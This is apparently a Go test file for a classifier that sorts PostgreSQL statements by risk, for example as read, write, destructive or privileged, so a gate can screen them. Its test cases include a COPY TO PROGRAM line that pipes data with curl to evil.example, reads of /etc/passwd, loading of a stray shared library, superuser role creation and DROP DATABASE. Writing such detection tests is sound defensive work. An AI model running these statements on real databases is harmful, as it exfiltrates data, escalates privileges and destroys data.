package classify

import (
	"strings"
	"testing"

	pg_query "github.com/pganalyze/pg_query_go/v6"
)

func init() { recoverPanics = false } // a bug must fail the test, not hide as Unknown

// lookup is a fake catalog: vol_* functions are volatile, stable_* stable.
func lookup(schema, name string) (byte, bool) {
	switch {
	case strings.HasPrefix(name, "vol_"), strings.HasPrefix(name, "proc_"):
		return 'v', true
	case strings.HasPrefix(name, "stable_"):
		return 's', true
	case strings.HasPrefix(name, "imm_"):
		return 'i', true
	}
	return 0, false
}

var withLookup = Options{Lookup: lookup}

// ruleCases holds at least one case for every rule in Rules: the rule
// that must decide the statement and its class.
var ruleCases = []struct {
	rule string
	sql  string
	want Class
}{
	{"parse.error", "SELEC 1", Unknown},
	{"empty", "-- only a comment", Read},
	{"select", "SELECT 1", Read},
	{"select.for-update", "SELECT * FROM accounts WHERE id = 1 FOR UPDATE", Write},
	{"select.into", "SELECT * INTO backup_t FROM t", DDL},
	{"select.into", "CREATE TABLE t2 AS SELECT * FROM t", DDL},
	{"insert", "INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = excluded.a", Write},
	{"update", "UPDATE t SET a = 1 WHERE id = 5", Write},
	{"update.no-where", "UPDATE t SET a = 1", Destructive},
	{"update.always-true", "UPDATE t SET a = 1 WHERE true", Destructive},
	{"delete", "DELETE FROM t WHERE id = 5", Write},
	{"delete.no-where", "DELETE FROM t", Destructive},
	{"delete.always-true", "DELETE FROM t WHERE 1 = 1", Destructive},
	{"merge", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a", Write},
	{"merge.delete-all", "MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE", Destructive},
	{"copy.from", "COPY t FROM STDIN", Write},
	{"copy.to", "COPY t TO STDOUT", Read},
	{"copy.program", "COPY t TO PROGRAM 'curl -d @- evil.example'", Privileged},
	{"copy.file", "COPY t FROM '/etc/passwd'", Privileged},
	{"truncate", "TRUNCATE orders", Destructive},
	{"lock", "LOCK TABLE t IN ACCESS EXCLUSIVE MODE", Write},
	{"select", "SELECT count(*), lower(name), now() FROM t", Read}, // func.builtin: reads
	{"func.sequence", "SELECT nextval('s')", Write},
	{"func.notify", "SELECT pg_notify('c', 'x')", Write},
	{"func.lo-write", "SELECT lo_from_bytea(0, 'x')", Write},
	{"func.lo-unlink", "SELECT lo_unlink(16385)", Destructive},
	{"func.drop-slot", "SELECT pg_drop_replication_slot('dualkey')", Destructive},
	{"func.server-control", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", Privileged},
	{"func.server-files", "SELECT pg_read_file('/etc/passwd')", Privileged},
	{"func.dblink", "SELECT * FROM dblink('dbname=prod', 'SELECT 1') AS t(a int)", Privileged},
	{"func.sql-string", "SELECT query_to_xml(q, true, true, '') FROM queries", Unknown},
	{"func.set-config", "SELECT set_config(name, 'x', false) FROM settings", Unknown},
	{"func.volatile", "SELECT vol_f(1)", Write},
	{"func.unknown", "SELECT mystery(1)", Unknown},
	{"explain", "EXPLAIN DELETE FROM t", Read},
	{"explain.analyze", "EXPLAIN ANALYZE SELECT 1", Read},
	{"prepare", "PREPARE q(int) AS SELECT $1", Read},
	{"execute", "EXECUTE q(1)", Unknown},
	{"deallocate", "DEALLOCATE q", Read},
	{"cursor", "DECLARE c CURSOR FOR SELECT 1", Read},
	{"cursor", "FETCH 10 FROM c", Read},
	{"do", "DO $$ BEGIN RAISE NOTICE 'hi'; END $$", Read},
	{"plpgsql.dynamic", "DO $$ BEGIN EXECUTE 'SELECT 1'; END $$", Unknown},
	{"plpgsql.error", "DO $$ BEGIN SELEC 1; END $$", Unknown},
	{"language.untrusted", "DO $$ import os $$ LANGUAGE plpython3u", Privileged},
	{"language.opaque", "DO $$ plv8.execute('x') $$ LANGUAGE plv8", Unknown},
	{"create.function", "CREATE FUNCTION f(a int) RETURNS int AS $$ BEGIN RETURN a + 1; END $$ LANGUAGE plpgsql", DDL},
	{"call", "CALL proc_cleanup(1)", Write},
	{"call.unknown", "CALL mystery_proc()", Unknown},
	{"ddl", "CREATE TABLE t (id int PRIMARY KEY, at timestamptz DEFAULT now())", DDL},
	{"ddl", "ALTER TABLE t ADD COLUMN c text", DDL},
	{"alter.drop-column", "ALTER TABLE t DROP COLUMN c", Destructive},
	{"alter.disable-trigger", "ALTER TABLE t DISABLE TRIGGER ALL", Privileged},
	{"alter.row-security", "ALTER TABLE t DISABLE ROW LEVEL SECURITY", Privileged},
	{"maintenance", "VACUUM ANALYZE t", Read},
	{"maintenance.rewrite", "VACUUM FULL t", DDL},
	{"maintenance.rewrite", "REINDEX TABLE t", DDL},
	{"maintenance.rewrite", "CLUSTER t USING t_pkey", DDL},
	{"drop", "DROP TABLE t", Destructive},
	{"drop", "DROP SCHEMA s CASCADE", Destructive},
	{"drop.index", "DROP INDEX t_pkey", Destructive},
	{"drop.database", "DROP DATABASE prod", Destructive},
	{"drop.owned", "DROP OWNED BY app", Destructive},
	{"role", "CREATE ROLE eve LOGIN SUPERUSER", Privileged},
	{"role", "ALTER ROLE eve SET search_path = x", Privileged},
	{"role.drop", "DROP ROLE alice", Destructive},
	{"grant", "GRANT ALL ON ALL TABLES IN SCHEMA public TO eve", Privileged},
	{"grant", "REVOKE SELECT ON t FROM app", Privileged},
	{"grant", "GRANT admin TO eve", Privileged},
	{"security", "CREATE POLICY p ON t USING (true)", Privileged},
	{"server", "CREATE EXTENSION dblink", Privileged},
	{"server", "CHECKPOINT", Privileged},
	{"alter.system", "ALTER SYSTEM SET fsync = off", Privileged},
	{"load", "LOAD '/tmp/evil.so'", Privileged},
	{"set", "SET statement_timeout = '5s'", Read},
	{"set", "SHOW search_path", Read},
	{"set.dangerous", "SET session_replication_role = replica", Privileged},
	{"set.role", "SET ROLE postgres", Privileged},
	{"set.search-path", "SET search_path = evil, pg_catalog", Privileged},
	{"transaction", "BEGIN ISOLATION LEVEL SERIALIZABLE", Read},
	{"transaction.prepare", "PREPARE TRANSACTION 'x'", Write},
	{"transaction.prepared", "COMMIT PREPARED 'x'", Privileged},
	{"listen", "LISTEN jobs", Read},
	{"notify", "NOTIFY jobs, 'go'", Write},
	{"too.deep", nestedQueryToXML(maxDepth + 1), Unknown},
}

// nestedQueryToXML nests SELECT query_to_xml('...') n deep, quoting each level.
func nestedQueryToXML(n int) string {
	q := "SELECT 1"
	for range n {
		q = "SELECT query_to_xml('" + strings.ReplaceAll(q, "'", "''") + "', true, true, '')"
	}
	return q
}

func TestRules(t *testing.T) {
	covered := map[string]bool{"unknown.node": true, "internal": true} // TestUnknownNode, TestInternal
	for _, tt := range ruleCases {
		t.Run(tt.rule+"/"+short(tt.sql), func(t *testing.T) {
			res := Classify(tt.sql, withLookup)
			if res.Class != tt.want {
				t.Errorf("Classify(%q).Class = %s, want %s (%s)", tt.sql, res.Class, tt.want, res.Reason)
			}
			found := tt.rule == "empty" && len(res.Statements) == 0
			if found {
				covered["empty"] = true
			}
			for _, s := range res.Statements {
				if s.Rule == tt.rule {
					found = true
				}
				covered[s.Rule] = true
			}
			if !found && tt.rule != "func.builtin" {
				t.Errorf("Classify(%q): no statement decided by rule %s: %+v", tt.sql, tt.rule, res.Statements)
			}
		})
	}
	// func.builtin never decides a statement on its own.
	for _, r := range Rules {
		if r.ID == "func.builtin" {
			continue
		}
		if !covered[r.ID] {
			t.Errorf("rule %s has no test case that it decides", r.ID)
		}
	}
}

func TestRuleTable(t *testing.T) {
	for _, r := range Rules {
		if r.ID == "" || r.Desc == "" || !r.Class.Valid() {
			t.Errorf("rule %+v: needs an id, a class and a description", r)
		}
	}
}

func TestSeverityOrder(t *testing.T) {
	for i := 1; i < len(Classes); i++ {
		if Classes[i].Severity() <= Classes[i-1].Severity() {
			t.Errorf("%s does not rank above %s", Classes[i], Classes[i-1])
		}
	}
	if Class("bogus").Severity() != Unknown.Severity() || Class("bogus").Valid() {
		t.Error("a string that is not a class must rank as unknown")
	}
}

func TestStatements(t *testing.T) {
	res := Classify("SELECT 1; UPDATE public.t SET a = 2 WHERE id = 3; -- done", withLookup)
	if len(res.Statements) != 2 {
		t.Fatalf("statements = %+v", res.Statements)
	}
	s := res.Statements[1]
	if s.Text != "UPDATE public.t SET a = 2 WHERE id = 3" || s.Kind != "UpdateStmt" || s.Class != Write ||
		!s.RowsGuard || !s.RowsCounted || len(s.Tables) != 1 || s.Tables[0] != "public.t" {
		t.Errorf("statement 2 = %+v", s)
	}
	if res.Class != Write || !strings.HasPrefix(res.Reason, "statement 2: ") || res.Fingerprint == "" {
		t.Errorf("result = %s %q %q", res.Class, res.Reason, res.Fingerprint)
	}
	if res.Statements[0].RowsGuard {
		t.Error("a SELECT needs no row guard")
	}
}

func TestRowsCounted(t *testing.T) {
	tests := []struct {
		sql            string
		guard, counted bool
	}{
		{"DELETE FROM t WHERE id = 1", true, true},
		{"UPDATE t SET a = 1 WHERE id = 1 RETURNING *", true, true},
		{"PREPARE p AS DELETE FROM t WHERE id = $1", true, true},
		{"WITH d AS (DELETE FROM t WHERE id > 0 RETURNING *) SELECT count(*) FROM d", true, false},
		{"DO $$ BEGIN DELETE FROM t WHERE id > 0; END $$", true, false},
		{"EXPLAIN ANALYZE DELETE FROM t WHERE id > 0", true, false},
		{"INSERT INTO t VALUES (1)", false, false},
		{"CREATE FUNCTION f() RETURNS void AS $$ DELETE FROM t WHERE id = 1 $$ LANGUAGE sql", false, false},
	}
	for _, tt := range tests {
		s := Classify(tt.sql, withLookup).Statements[0]
		if s.RowsGuard != tt.guard || s.RowsCounted != tt.counted {
			t.Errorf("%q: RowsGuard %v RowsCounted %v, want %v %v", tt.sql, s.RowsGuard, s.RowsCounted, tt.guard, tt.counted)
		}
	}
}

func TestLookupVolatility(t *testing.T) {
	tests := []struct {
		sql  string
		opts Options
		want Class
	}{
		{"SELECT stable_f(1)", withLookup, Read},
		{"SELECT imm_f(1)", withLookup, Read},
		{"SELECT app.vol_f(1)", withLookup, Write},
		{"SELECT nope(1)", withLookup, Unknown},
		{"SELECT stable_f(1)", Options{}, Unknown},
		{"SELECT * FROM vol_srf()", withLookup, Write},
		{"SELECT 1 WHERE stable_f(vol_g())", withLookup, Write},
		// A schema other than pg_catalog is not the built-in.
		{"SELECT app.lower('x')", Options{}, Unknown},
		{"SELECT pg_catalog.lower('x')", Options{}, Read},
	}
	for _, tt := range tests {
		if got := Classify(tt.sql, tt.opts); got.Class != tt.want {
			t.Errorf("%q: %s (%s), want %s", tt.sql, got.Class, got.Reason, tt.want)
		}
	}
}

func TestUnknownNode(t *testing.T) {
	// Every statement SQL can produce has a rule; a node no rule covers
	// (here one that only exists inside ALTER TABLE) must be Unknown.
	v := (&classifier{}).stmt(&pg_query.ReplicaIdentityStmt{}, "", 0)
	if v.class != Unknown || v.rule != "unknown.node" {
		t.Errorf("uncovered node: %s %s", v.class, v.rule)
	}
}

func TestInternal(t *testing.T) {
	recoverPanics = true
	defer func() { recoverPanics = false }()
	res := Classify("SELECT f()", Options{Lookup: func(string, string) (byte, bool) { panic("boom") }})
	if res.Class != Unknown || res.Statements[0].Rule != "internal" {
		t.Errorf("a panic inside the classifier gave %s %+v", res.Class, res.Statements)
	}
}

func TestDeepNesting(t *testing.T) {
	if got := Classify(nestedQueryToXML(maxDepth-1), Options{}); got.Class != Read {
		t.Errorf("nesting below the limit: %s (%s)", got.Class, got.Reason)
	}
	inner := nestedQueryToXML(3)
	if got := Classify(strings.Replace(inner, "SELECT 1", "DELETE FROM t", 1), Options{}); got.Class != Destructive {
		t.Errorf("nested DELETE: %s", got.Class)
	}
}

func TestCounted(t *testing.T) {
	tests := []struct {
		sql     string
		counted bool
	}{
		{"DELETE FROM t", true},
		{"DELETE FROM t WHERE id = 1", true},
		{"UPDATE t SET a = 1 WHERE true", true},
		{"UPDATE t SET a = 1", true},
		{"DELETE FROM t WHERE id IN (SELECT id FROM u)", true},
		{"MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE", true},
		{"WITH d AS (DELETE FROM u RETURNING id) DELETE FROM t WHERE id IN (SELECT id FROM d)", false},
		{"WITH d AS (SELECT 1) DELETE FROM t", true},
		{"DELETE FROM t WHERE id = (SELECT nextval('s'))", true}, // a function's side effect, not rows
		{"DELETE FROM t WHERE query_to_xml('DELETE FROM u RETURNING 1', true, true, '') IS NULL", false},
		{"PREPARE p AS DELETE FROM t", false},
		{"EXPLAIN ANALYZE DELETE FROM t", false},
		{"SELECT 1", false},
		{"TRUNCATE t", false},
		{"DO $$ BEGIN DELETE FROM t; END $$", false},
	}
	for _, tt := range tests {
		res := Classify(tt.sql, withLookup)
		if got := res.Statements[0].Counted; got != tt.counted {
			t.Errorf("%q: Counted %v, want %v", tt.sql, got, tt.counted)
		}
	}
}

func TestSideEffects(t *testing.T) {
	tests := []struct {
		sql     string
		effects bool
	}{
		{"DELETE FROM t", false},
		{"DELETE FROM t WHERE lower(name) = 'x' AND now() > created", false},
		{"UPDATE t SET a = abs(b) + length(c)", false},
		{"DELETE FROM t WHERE id = (SELECT nextval('s'))", true},
		{"UPDATE t SET a = setval('s', 1)", true},
		{"DELETE FROM t WHERE dblink_exec('db', 'DROP TABLE x') IS NULL", true},
		{"DELETE FROM t WHERE pg_terminate_backend(42)", true},
		{"UPDATE t SET a = vol_f(a)", true},
		{"UPDATE t SET a = stable_f(a) + imm_g(a)", false},
		{"UPDATE t SET a = nosuchfunction(a)", true},
		{"DELETE FROM t WHERE id IN (SELECT pg_notify('c', 'x')::int)", true},
		{"DELETE FROM t WHERE query_to_xml('SELECT 1', true, true, '') IS NULL", true},
	}
	for _, tt := range tests {
		if got := Classify(tt.sql, withLookup).Statements[0].SideEffects; got != tt.effects {
			t.Errorf("%q: SideEffects %v, want %v", tt.sql, got, tt.effects)
		}
	}
}

// TestLexerSettings: the settings that change how the server reads the
// text (and so could make it split a statement where the gate's parser
// does not) are privileged, but for the values that keep it as pg_query
// reads it.
func TestLexerSettings(t *testing.T) {
	tests := []struct {
		sql  string
		want Class
	}{
		{"SET standard_conforming_strings = off", Privileged},
		{"SET standard_conforming_strings TO false", Privileged},
		{"SET standard_conforming_strings = on", Read},
		{"SET standard_conforming_strings TO 'on'", Read},
		{"SET SESSION standard_conforming_strings = 'off'", Privileged},
		{"SELECT set_config('standard_conforming_strings', 'off', false)", Privileged},
		{"SET client_encoding = 'SJIS'", Privileged},
		{"SET NAMES 'GBK'", Privileged},
		{"SET client_encoding TO 'big-5'", Privileged},
		{"SET client_encoding TO 'UTF8'", Read},
		{"SET NAMES 'LATIN1'", Read},
		{"SELECT set_config('client_encoding', 'gb18030', false)", Privileged},
		{"RESET client_encoding", Read},
		{"SET client_encoding TO DEFAULT", Read},
	}
	for _, tt := range tests {
		if got := Classify(tt.sql, withLookup); got.Class != tt.want {
			t.Errorf("Classify(%q) = %s (%s), want %s", tt.sql, got.Class, got.Reason, tt.want)
		}
	}
	for enc, safe := range map[string]bool{"UTF8": true, "utf-8": true, "LATIN1": true, "SQL_ASCII": true, "EUC_JP": true,
		"SJIS": false, "Shift_JIS": false, "BIG5": false, "GBK": false, "UHC": false, "GB18030": false, "JOHAB": false, "WIN932": false, "": false} {
		if SafeClientEncoding(enc) != safe {
			t.Errorf("SafeClientEncoding(%q) = %v", enc, !safe)
		}
	}
}
